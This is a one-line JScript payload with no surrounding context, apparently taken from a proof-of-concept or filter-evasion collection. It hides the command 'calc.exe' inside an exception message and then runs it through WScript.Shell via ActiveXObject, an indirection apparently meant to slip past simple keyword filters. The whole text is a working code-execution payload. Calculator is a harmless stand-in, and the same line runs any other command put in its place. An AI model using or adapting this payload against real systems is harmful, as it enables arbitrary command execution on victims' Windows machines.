try{throw new Error('calc.exe')}catch(e){new ActiveXObject('WScript.Shell').Run(e.message)}
